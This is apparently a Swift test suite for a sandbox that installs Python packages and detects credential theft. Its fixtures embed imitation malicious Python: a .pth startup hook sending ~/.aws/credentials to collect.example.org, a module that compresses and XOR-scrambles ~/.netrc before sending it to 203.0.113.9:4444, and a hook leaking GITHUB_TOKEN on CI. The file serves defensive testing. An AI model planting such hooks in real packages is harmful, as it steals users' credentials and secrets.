import Evidence
import TestSupport
import Testing

@testable import Sandbox

/// Imitations of thieves are made here and speak to the sink alone; each is installed by the machine's own pip.
@Suite("Observations", .serialized, .enabled(if: Machine.hasNamespaces, Machine.noNamespaces))
struct ObserverTests {
  static let noPython: Comment = "no interpreter with pip on the search path"
  static let hasPython = HostPython.find()?.pip != nil

  private func observe(_ members: [(String, String)], modules: [String] = [], personas: [Persona] = [.laptop]) throws
    -> Observation
  {
    let python = try #require(HostPython.find())
    let wheel = WheelBuilder(name: "harbour", files: members)
    var request = Observer.Request(name: wheel.fileName, bytes: wheel.build(), python: python)
    request.modules = modules
    request.personas = personas
    return try Observer.observe(request)
  }

  private func levels(_ observation: Observation, _ phase: Phase) -> Set<EvidenceLevel> {
    Set(observation.evidence.filter { observation.stages[$0.stage].phase == phase }.map(\.level))
  }

  @Test("of an honest package come to nothing", .enabled(if: hasPython, noPython))
  func honest() throws {
    let observation = try observe(
      [("harbour.py", "import json, os\nos.environ.get('HOME')\n"), ("harbour.pth", "import os\n")],
      modules: ["harbour"])
    #expect(observation.evidence.isEmpty, "\(observation.evidence)")
    #expect(observation.stages.map(\.phase).contains(.import))
    #expect(observation.tier == .namespaces)
  }

  @Test(
    "prove what a hook sends at the start of an interpreter",
    .enabled(if: hasPython, noPython))
  func startup() throws {
    let observation = try observe([
      (
        "harbour.pth",
        "import os, urllib.request as u; u.urlopen('http://collect.example.org/x', "
          + "data=open(os.path.expanduser('~/.aws/credentials'), 'rb').read())\n"
      )
    ])
    #expect(levels(observation, .startup).isSuperset(of: [.touched, .taintedEgress, .proven]))
    let proof = try #require(observation.evidence.first { $0.level == .proven })
    #expect(proof.decoys == ["aws-shared-credentials"])
    #expect(proof.detail.contains("collect.example.org"), "\(proof.detail)")
    let exchange = try #require(observation.event(of: proof))
    guard case .exchange(let said) = exchange.action else {
      Issue.record("\(exchange)")
      return
    }
    #expect(said.host == "collect.example.org" && said.request == "POST /x HTTP/1.1" && said.bytes > 100, "\(said)")
    #expect(exchange.because?.hasSuffix("harbour.pth") == true && exchange.process != nil)
    let stage = observation.stages[proof.stage]
    #expect(stage.events.map(\.time) == stage.events.map(\.time).sorted())
    #expect(
      stage.events.contains { event in
        event.process == exchange.process && event.because == exchange.because
          && event.action == .lookUp(name: "collect.example.org", type: "A")
      }, "\(stage.events.suffix(20))")
    let touches = observation.stages.filter { $0.phase == .startup }.flatMap(\.events).filter { event in
      if case .touch("aws-shared-credentials", _) = event.action { return true }
      return false
    }
    #expect(!touches.isEmpty && touches.allSatisfy { $0.because?.hasSuffix("harbour.pth") == true }, "\(touches)")
  }

  @Test(
    "see what is packed and scrambled before it is sent",
    .enabled(if: hasPython, noPython))
  func scrambled() throws {
    let observation = try observe(
      [
        (
          "harbour.py",
          """
          import gzip, os, shutil, socket, subprocess, tempfile
          haul = tempfile.mkdtemp() + '/haul'
          with open(os.path.expanduser('~/.netrc'), 'rb') as source, gzip.open(haul, 'wb') as target:
            shutil.copyfileobj(source, target)
          subprocess.run(['true'])
          with open(haul, 'rb') as file:
            scrambled = bytes(byte ^ (number * 7 + 3) % 256 for number, byte in enumerate(file.read()))
          socket.create_connection(('203.0.113.9', 4444)).sendall(scrambled)
          """
        )
      ], modules: ["harbour"])
    #expect(levels(observation, .import).isSuperset(of: [.touched, .staged, .taintedEgress]))
    let staged = observation.evidence.first { $0.level == .staged }
    #expect(staged?.decoys == ["netrc"] && staged?.detail.contains("gzip") == true, "\(String(describing: staged))")
  }

  @Test(
    "show each persona a machine of its own",
    .enabled(if: hasPython, noPython))
  func personas() throws {
    let observation = try observe(
      [
        (
          "harbour.pth",
          "import os, sys; os.environ.get('GITHUB_ACTIONS') and sys.stdout.write(os.environ.get('GITHUB_TOKEN', ''))\n"
        )
      ], personas: [.laptop, .ciRunner])
    let proven = observation.evidence.filter { $0.level == .proven }
    #expect(!proven.isEmpty, "\(observation.evidence)")
    #expect(proven.allSatisfy { observation.stages[$0.stage].persona == "ci-runner" }, "\(proven)")
  }
}
